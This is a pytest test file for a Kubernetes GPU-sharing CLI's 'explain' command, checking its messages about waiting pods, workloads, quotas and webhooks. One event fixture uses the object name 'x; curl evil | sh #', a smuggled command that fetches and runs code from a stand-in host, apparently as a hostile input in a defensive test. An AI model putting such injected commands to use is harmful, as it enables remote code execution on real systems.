"""`cardwise explain`: of what, by which words."""

import json

import pytest

from cardwise.cli.cluster import workloads
from cardwise.core.api import names
from cardwise.core.api.cardlimits import CardLimits
from cardwise.core.values.decoded import Json
from cardwise.core.values.quantity import MiB
from cardwise.core.values.refusals import Refusal
from cardwise.kube import errors
from tests.build import event
from tests.cli.clusters import K80_CLASS, Cluster, card, lists, placed, run, waiting


def owned(pod: Json, kind: str, name: str, **labels: str) -> Json:
    owner = {"kind": kind, "name": name, "uid": name, "controller": True}
    return pod | {"metadata": pod["metadata"] | {"ownerReferences": [owner], "labels": labels}}


def workload_object(name: str, namespace: str = "team-a", *, owner: str = "") -> Json:
    metadata: Json = {"name": name, "namespace": namespace, "uid": name}
    if owner:
        metadata["ownerReferences"] = [{"kind": "x", "name": owner, "uid": owner, "controller": True}]
    return {"metadata": metadata, "spec": {}}


@pytest.fixture
def api() -> Cluster:
    """`web` is a Deployment with one pod that runs and two that wait; `train` is a Job that may make none."""
    api = lists()
    limits = {"aliyun.com/gpu-mem": "20000", "cardwise.dev/share": "1"}
    api.add("deployments", workload_object("web"))
    api.add("replicasets", workload_object("web-1", owner="web"))
    api.add("pods", owned(placed("team-a", "web-1-a", "n1", 1, 100), "ReplicaSet", "web-1"))
    api.add("pods", *(owned(waiting("team-a", f"web-1-{x}", limits), "ReplicaSet", "web-1") for x in "bc"))
    api.add("jobs", workload_object("big"))
    denied = "admission webhook denied the request: too much"
    api.add("events", event_about("FailedCreate", denied, "2026-11-28T05:00:00Z", "Job", "big"))
    return api


@pytest.mark.parametrize(
    "words",
    [["deploy/web"], ["deployment", "web"], ["deployments.apps/web"], ["web"], ["Deployment/web"]],
)
def test_a_workload_is_explained_by_its_pods_and_the_first_that_waits(monkeypatch, api, words):
    output = run(monkeypatch, api, "explain", *words, "-n", "team-a").output
    assert "deployment team-a/web has 3 pods: 2 waiting, 1 starting.\n" in output
    assert "pod team-a/web-1-b requests 20000 MiB" in output


def test_a_pod_of_a_scheduler_that_has_gone_is_told_from_one_of_a_scheduler_that_is_there(monkeypatch, api):
    pod = waiting("team-a", "left", {"aliyun.com/gpu-mem": "20000", "cardwise.dev/share": "1"})
    pod["spec"]["schedulerName"] = names.SCHEDULER
    api.add("pods", pod)
    gone = "no longer exists, so nothing places the pod:"
    assert gone in run(monkeypatch, api, "explain", "left", "-n", "team-a").output
    api.forbid("deployments")
    assert gone not in run(monkeypatch, api, "explain", "left", "-n", "team-a").output, "nobody knows"
    api.forbid()
    api.add("deployments", workload_object(names.SCHEDULER, names.NAMESPACE))
    assert gone not in run(monkeypatch, api, "explain", "left", "-n", "team-a").output
    renamed = {"annotations": {names.SCHEDULER_NAME: "gpus"}}
    api.change("deployments", names.SCHEDULER, names.NAMESPACE, metadata=renamed)
    assert gone in run(monkeypatch, api, "explain", "left", "-n", "team-a").output


def test_who_is_asked_to_end_a_pod_hears_that_nobody_recreates_it(monkeypatch, api):
    def ends() -> str:
        output = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
        return next(line for line in output.splitlines() if "these ended" in line)

    api.change(
        "pods", "web-1-b", "team-a", spec=waiting("", "", {"aliyun.com/gpu-mem": "14000", names.SHARE: "1"})["spec"]
    )
    assert ends().endswith(
        "team-b/big (4069 MiB); no controller recreates team-b/big, so save their manifests first: kubectl get pod -o "
        "yaml"
    )
    owner = {"kind": "ReplicaSet", "name": "r", "uid": "r", "controller": True}
    api.change("pods", "big", "team-b", metadata={"ownerReferences": [owner]})
    assert ends().endswith("team-b/big (4069 MiB)")


def test_a_workload_names_the_nodes_of_its_pods_that_do_not_report(monkeypatch, api):
    api.change("nodes", "n1", status={"conditions": [{"type": "Ready", "status": "Unknown"}]})
    output = run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout
    assert (
        "Node n1 is NotReady (its kubelet does not report), so their reported state may be outdated: web-1-a.\n"
        in output
    )


def test_a_scheduler_of_the_chart_without_a_ready_pod_is_said_to_place_nothing(monkeypatch, api):
    pod = waiting("team-a", "left", {"aliyun.com/gpu-mem": "2000", "cardwise.dev/share": "1"})
    pod["spec"]["schedulerName"] = names.SCHEDULER
    api.add("pods", pod)
    api.add("deployments", workload_object(names.SCHEDULER, names.NAMESPACE))
    output = run(monkeypatch, api, "explain", "left", "-n", "team-a").stdout
    assert "Its scheduler cardwise-scheduler is not running: the Deployment" in output
    assert "that fit are free" not in output
    api.change("deployments", names.SCHEDULER, names.NAMESPACE, status={"readyReplicas": 1})
    output = run(monkeypatch, api, "explain", "left", "-n", "team-a").stdout
    assert "Its scheduler" not in output
    assert "that fit are free" in output


def test_a_pod_that_outlived_an_uninstallation_hears_of_it(monkeypatch, api):
    api.replace("extendedresources")
    api.replace("resourceclasses")
    output = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
    assert "No Cardwise extender has ever been leader here, so no pod gets" in output
    lease = {"metadata": {"namespace": names.NAMESPACE, "name": names.LEASE}, "spec": {}}
    api.add("leases", lease)
    assert "has ever led" not in run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
    api.forbid("leases")
    assert "has ever led" not in run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout, "nobody knows"


def test_pods_bound_by_hand_are_not_blamed_on_a_scheduler_that_asks(monkeypatch, api):
    api.add("events", event_about("BoundWithoutExtender", "deleted: ...", "2026-11-28T05:00:00Z", "Pod", "by-hand"))
    blame = "kube-scheduler does not call the extender"
    assert blame in run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
    condition = {"type": "PodScheduled", "status": "False", "message": f"0/2 nodes: 2 {Refusal.NO_MEMORY.text}."}
    api.change("pods", "web-1-b", "team-a", status={"conditions": [condition]})
    output = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
    assert "has bound pods of this namespace within the last hour (by-hand)" in output
    assert "The scheduler of this pod does call the extender." in output
    assert blame not in output


def test_a_pod_that_does_not_start_says_its_own_last_warning(monkeypatch, api):
    def warning(at: str, reason: str, uid: str = "team-a-web-1-a") -> Json:
        event = event_about(reason, f"{reason} of web-1-a", f"2026-11-28T05:00:0{at}Z", "Pod", "web-1-a")
        event["involvedObject"]["uid"] = uid
        return event | {"type": "Warning"}

    spec = {"containers": [{"name": "main", "resources": {"limits": {"aliyun.com/gpu-mem": "100", names.SHARE: "1"}}}]}
    api.change("pods", "web-1-a", "team-a", spec=spec)
    former = warning("9", "FailedMount", "of a former pod of this name")
    api.add("events", warning("1", "FailedMount"), warning("2", "FailedAttachVolume"), former)
    api.add("events", warning("3", "FailedScheduling"), warning("4", "BackOff") | {"type": "Normal"})
    output = run(monkeypatch, api, "explain", "web-1-a", "-n", "team-a").stdout
    line = "  its last warning (FailedAttachVolume, 2026-11-28T05:00:02Z): FailedAttachVolume of web-1-a\n"
    assert line in output
    api.change("pods", "web-1-a", "team-a", status={"phase": "Running"})
    assert "last warning" not in run(monkeypatch, api, "explain", "web-1-a", "-n", "team-a").stdout


@pytest.mark.parametrize("words", [["deploy/"], ["deploy", ""], ["/"], [""], ["deploy/web", "x"]])
def test_words_that_name_nothing_are_told(monkeypatch, api, words):
    completed = run(monkeypatch, api, "explain", *words, "-n", "team-a")
    assert completed.exit_code == 2
    assert "name one object: NAME, KIND NAME or KIND/NAME" in completed.output


def test_without_rights_nobody_hears_that_there_is_no_such_pod(monkeypatch, api):
    api.forbid("pods")
    assert isinstance(run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").exception, errors.Forbidden)
    assert "deployment team-a/web" not in run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").output


def test_a_workload_without_pods_says_who_refuses_them(monkeypatch, api):
    output = run(monkeypatch, api, "explain", "job/big", "-n", "team-a").output
    assert "job team-a/big has no pod.\nKubernetes could not create a pod: admission webhook denied" in output


@pytest.mark.parametrize("words", [["pod", "web-1-b"], ["pod/web-1-b"], ["po/web-1-b"], ["web-1-b"]])
def test_a_pod_by_any_words(monkeypatch, api, words):
    assert "pod team-a/web-1-b requests 20000 MiB" in run(monkeypatch, api, "explain", *words, "-n", "team-a").output


def test_for_programs(monkeypatch, api):
    document = json.loads(run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a", "-o", "json").stdout)
    assert (document["pods"], document["first"]["name"]) == ({"waiting": 2, "starting": 1}, "web-1-b")


def test_what_is_not_there_or_no_kind_is_told(monkeypatch, api):
    assert "there is no pod or workload 'none'" in run(monkeypatch, api, "explain", "none", "-n", "team-a").output
    assert "there is no job 'none'" in run(monkeypatch, api, "explain", "job/none", "-n", "team-a").output
    assert "'svc' is not a kind that creates pods" in run(monkeypatch, api, "explain", "svc/x").output
    assert "name one object" in run(monkeypatch, api, "explain", "pod", "a", "b").output


def test_former_replicas_are_of_the_same_deployment_and_another_template_and_fellows_of_the_same():
    limits = {"aliyun.com/gpu-mem": "1"}
    replicas = [
        owned(
            waiting("t", f"{name}-{digest}-x", limits),
            "ReplicaSet",
            f"{name}-{digest}",
            **{"pod-template-hash": digest},
        )
        for name, digest in (("web", "1"), ("web", "2"), ("api", "3"))
    ]
    fellow = owned(waiting("t", "web-2-y", limits), "ReplicaSet", "web-2", **{"pod-template-hash": "2"})
    jobs = [owned(waiting("t", f"train-{x}", limits), "Job", "train") for x in "ab"]
    api = lists(pods=[*replicas, fellow, *jobs])
    of_web = workloads.other_replicas(api.kube, replicas[1])
    assert (of_web.from_former_template, of_web.of_same_controller) == ({"web-1-x"}, {"web-2-y"})
    for other in (jobs[0], waiting("t", "bare", limits)):
        assert workloads.other_replicas(api.kube, other) == workloads.Replicas(), "each of a Job ends by itself"


def test_pods_that_are_ending_are_not_among_those_that_should_end(monkeypatch, api):
    api.add("pods", waiting("team-a", "p", {"aliyun.com/gpu-mem": "16000", "cardwise.dev/share": "1"}))
    output = run(monkeypatch, api, "explain", "p", "-n", "team-a").output
    assert "  - these ended (GPU 1 of n1, 3893 MiB short): " in output
    assert "team-b/big (4069 MiB)" in output.rpartition("these ended")[2]
    for name, namespace in (("big", "team-b"), ("web-1-a", "team-a")):
        api.change("pods", name, namespace, metadata={"deletionTimestamp": "2026-11-28T05:00:00Z"})
    output = run(monkeypatch, api, "explain", "p", "-n", "team-a").output
    assert "these ended" not in output
    assert "  - the terminating pods on n1 are gone: no other pod has to end\n" in output
    assert "held by team-a/web-1-a (100 MiB, is ending), team-b/big (4069 MiB, is ending)\n" in output


@pytest.mark.parametrize("command", ["quota", "gangs", "explain"])
def test_a_namespace_that_does_not_exist_is_said_to_be_so(monkeypatch, api, command):
    api.add("namespaces", {"metadata": {"name": "team-z"}})
    words = [command, *["web"][: command == "explain"]]
    typo = run(monkeypatch, api, *words, "-n", "taem-z")
    assert (typo.exit_code, typo.stdout) == (1, "")
    assert "there is no namespace 'taem-z'" in typo.stderr
    assert "there is no namespace" not in run(monkeypatch, api, *words, "-n", "team-z").stderr
    api.forbid("namespaces")
    assert "there is no namespace" not in run(monkeypatch, api, *words, "-n", "taem-z").stderr, "nobody knows"


def test_what_the_extender_keeps_back_of_each_card_is_not_free(monkeypatch, api):
    def free() -> int:
        document = json.loads(run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a", "-o", "json").stdout)
        return document["nodes"][0]["gpus"][0]["freeMiB"]

    before = free()
    data = CardLimits(kept_back=MiB(700)).configmap_data()
    api.add("configmaps", {"metadata": {"namespace": names.NAMESPACE, "name": names.WORKLOAD}, "data": data})
    assert free() == before - 700


def event_about(reason: str, message: str, at: str, kind: str, name: str) -> Json:
    return event(reason, message, about=f"{kind}/{name}", namespace="team-a", at=at)


def test_of_a_pod_that_is_gone_the_last_events_are_told(monkeypatch, api):
    api.add(
        "events",
        event_about("Scheduled", "Successfully assigned", "2026-11-28T05:00:00Z", "Pod", "web-1-z"),
        event_about("BoundWithoutExtender", "deleted: it asks for GPUs", "2026-11-28T05:00:02Z", "Pod", "web-1-z"),
        event_about("SuccessfulDelete", "Deleted pod: web-1-z", "2026-11-28T05:00:03Z", "ReplicaSet", "web-1"),
        event_about("SuccessfulDelete", "Deleted pod: web-1-zz", "2026-11-28T05:00:04Z", "ReplicaSet", "web-1"),
        event_about("Killing", "of a node of this name", "2026-11-28T05:00:05Z", "Node", "web-1-z"),
        event_about(
            "SuccessfulDelete", "Deleted pod: web-1-z", "2026-11-28T05:00:06Z", "ReplicaSet", "x; curl evil | sh #"
        ),
    )
    for words in (["web-1-z"], ["pod/web-1-z"]):
        completed = run(monkeypatch, api, "explain", *words, "-n", "team-a")
        assert completed.exit_code == 0
        *events, advice, owner = completed.stdout.splitlines()
        assert events == [
            "pod team-a/web-1-z no longer exists. Its last events:",
            "  2026-11-28T05:00:00Z Scheduled: Successfully assigned",
            "  2026-11-28T05:00:02Z BoundWithoutExtender: deleted: it asks for GPUs",
            "  2026-11-28T05:00:03Z SuccessfulDelete: ReplicaSet web-1: Deleted pod: web-1-z",
        ]
        assert advice.startswith(
            "It got no GPU, because something other than Cardwise's extender had bound it. Unless this was done by hand"
        )
        assert owner == "The current state of its ReplicaSet: cardwise explain -n team-a replicaset/web-1"
    programs = json.loads(run(monkeypatch, api, "explain", "web-1-z", "-n", "team-a", "-o", "json").stdout)
    assert (programs["phase"], programs["text"]) == ("Gone", completed.stdout.splitlines())
    assert "there is no job 'web-1-z'" in run(monkeypatch, api, "explain", "job/web-1-z", "-n", "team-a").output
    api.forbid("events")
    assert "there is no pod or workload" in run(monkeypatch, api, "explain", "web-1-z", "-n", "team-a").output


def test_a_refusal_of_pods_is_no_news_once_all_of_them_are_there(monkeypatch, api):
    message = 'Error creating: pods "web-1-x7k2p" is forbidden: exceeded quota: gpus'
    api.add("events", event_about("FailedCreate", message, "2026-11-28T05:00:00Z", "ReplicaSet", "web-1"))
    api.change("deployments", "web", "team-a", spec={"replicas": 4})
    refused = "Kubernetes could not create a pod: exceeded quota: gpus\n"
    assert refused in run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout
    api.change("deployments", "web", "team-a", spec={"replicas": 3})
    assert refused not in run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout


def test_a_refusal_older_than_its_event_is_read_from_the_condition(monkeypatch, api):
    api.replace("pods")
    failure = {"type": "ReplicaFailure", "status": "True", "message": "pods are forbidden: exceeded quota"}
    api.change("replicasets", "web-1", "team-a", status={"conditions": [failure]})
    output = run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout
    head, refusal, retry = output.splitlines()
    assert head == "deployment team-a/web has no pod."
    assert refusal == "Kubernetes could not create a pod: pods are forbidden: exceeded quota"
    assert "`kubectl annotate -n team-a replicaset web-1 retried-at=$(date +%s) --overwrite`" in retry


def test_who_made_a_pod_before_the_webhook_was_there_is_told_from_who_made_it_while_it_was_away(monkeypatch, api):
    unwritten = waiting("team-a", "p", {"aliyun.com/gpu-mem": "100"})
    unwritten["metadata"] |= {"creationTimestamp": "2026-06-01T00:00:00Z"}
    api.add("pods", unwritten)

    def explanation() -> str:
        return run(monkeypatch, api, "explain", "p", "-n", "team-a").stdout

    assert (
        "The webhook is not registered: ask your administrator to run `cardwise doctor`. Once it is, no contr"
        in explanation()
    )
    configuration = {"name": names.WEBHOOK_CONFIGURATION, "creationTimestamp": "2026-06-02T00:00:00Z"}
    api.add("mutatingwebhookconfigurations", {"metadata": configuration})
    before = "It was created at 2026-06-01T00:00:00Z, before the webhook was registered (at 2026-06-02T00:00:00Z): "
    recreate = "`kubectl get pod -n team-a p -o yaml > p.yaml && kubectl replace --force -f p.yaml`"
    assert f"{before}no controller recreates it: {recreate} saves it to p.yaml, deletes it and cr" in explanation()
    api.replace("mutatingwebhookconfigurations")
    arguments = ["--exempt-namespaces=kube-system,team-a"]
    webhook = workload_object("cardwise-webhook", names.NAMESPACE)
    webhook["spec"] = {"template": {"spec": {"containers": [{"args": arguments}]}}}
    api.add("deployments", webhook)
    assert "Namespace team-a is exempt from the webhook" in explanation(), "also while its configuration is missing"
    api.forbid("mutatingwebhookconfigurations")
    assert "It was created while the webhook was not registered, or its" in explanation()


def test_who_may_view_one_namespace_hears_of_its_quotas_what_cardwise_quota_says(monkeypatch, api):
    used = [{"class": K80_CLASS, "shares": 2, "gpus": 1, "memoryMiB": 0}, {"memoryMiB": 13441}]
    api.change("gpuquotas", "team", "team-a", status={"used": used})
    typed = waiting("team-a", "typed", {f"cardwise.dev/{K80_CLASS}": "1", "cardwise.dev/gpu": "1", names.SHARE: "1"})
    api.add("pods", typed)
    api.forbid("extendedresources", "resourceclasses", "nodes", "pods of all")
    of_quota = run(monkeypatch, api, "quota", "-n", "team-a").stdout
    assert "2/2" in of_quota
    assert "13441/32768" in of_quota
    output = run(monkeypatch, api, "explain", "typed", "-n", "team-a").stdout
    used = "2 of 2 shares used, 1 requested, 1 of 1 whole GPUs used, 1 requested"
    closed = f"GPUQuota team does not allow this on {K80_CLASS}: {used}.\n"
    assert closed in output
    assert "GPUQuota team on all GPUs: 13441 of 32768 MiB used.\n" in output
    output = run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout
    assert f"GPUQuota team on {K80_CLASS}: 2 of 2 shares used, 1 of 1 whole GPUs used.\n" in output
    assert "GPUQuota team does not allow this on all GPUs: 13441 of 32768 MiB used, 20000 requested.\n" in output
    api.forbid("extendedresources", "gpuquotas")
    assert "GPUQuota" not in run(monkeypatch, api, "explain", "web-1-b", "-n", "team-a").stdout


def test_a_daemonsets_pod_hears_of_its_own_node_alone(monkeypatch, api):
    term = {"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["n1"]}]}
    required = {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [term]}}
    pod = owned(waiting("team-a", "ds-x", {"aliyun.com/gpu-mem": "11000", names.SHARE: "1"}), "DaemonSet", "ds")
    pod["spec"]["affinity"] = {"nodeAffinity": required}
    api.replace("extendedresources", card("n1", 0), card("n2", 1))
    api.replace("gpuquotas")
    api.add("pods", pod)
    output = run(monkeypatch, api, "explain", "ds-x", "-n", "team-a").stdout
    assert "It is for node n1 only: its DaemonSet creates one pod for each node that its template allows.\n" in output
    assert "these ended (GPU 0 of n1, 2559 MiB short): " in output
    assert "n2" not in output
    assert "keep away" not in output
    programs = json.loads(run(monkeypatch, api, "explain", "ds-x", "-n", "team-a", "-o", "json").stdout)
    assert [node["name"] for node in programs["nodes"]] == ["n1"]
    api.replace("extendedresources", card("n2", 1))
    output = run(monkeypatch, api, "explain", "ds-x", "-n", "team-a").stdout
    assert "Node n1 has no GPU or device of Cardwise. To keep the DaemonSet off such nodes, add a nodeSel" in output
    assert "would run" not in output


def test_pods_that_vanish_are_told_of_their_own_workload_alone(monkeypatch, api):
    api.replace("pods")
    for i, name in enumerate(("web-1-x9z", "web-1-api-x9z", "web-10-x9z")):
        api.add("events", event_about("BoundWithoutExtender", "deleted: ...", f"2026-11-28T05:00:0{i}Z", "Pod", name))
    output = run(monkeypatch, api, "explain", "deploy/web", "-n", "team-a").stdout
    assert "The extender has deleted pods of this workload within the last hour (web-1-x9z): something " in output


def test_a_gang_that_could_never_start_is_told_by_the_cluster_it_is_in(monkeypatch, api):
    def member(name: str, mem: str) -> Json:
        pod = waiting("team-a", name, {"aliyun.com/gpu-mem": mem, names.SHARE: "1"})
        pod["metadata"]["labels"] = {names.GANG: "g"}
        pod["spec"]["schedulingGates"] = [{"name": names.GANG}]
        return pod

    api.add("podgroups", {"metadata": {"namespace": "team-a", "name": "g"}, "spec": {"minMember": 2}})
    big = member("big", "99999")
    api.add("pods", member("small", "1000"), big)
    never = "Its gang cannot start: member big would not fit even if every GPU were empty (n1, n2: "
    assert never in run(monkeypatch, api, "explain", "small", "-n", "team-a").stdout
    api.replace("pods", member("small", "1000"), member("big", "1000"))
    assert "Its gang cannot" not in run(monkeypatch, api, "explain", "small", "-n", "team-a").stdout
    picky = member("big", "1000")
    picky["spec"]["nodeSelector"] = {"gpu": "h100"}
    api.replace("pods", member("small", "1000"), picky)
    nowhere = "Its gang cannot start: member big would not fit even if every GPU were empty (it may run on no node with"
    assert nowhere in run(monkeypatch, api, "explain", "small", "-n", "team-a").stdout
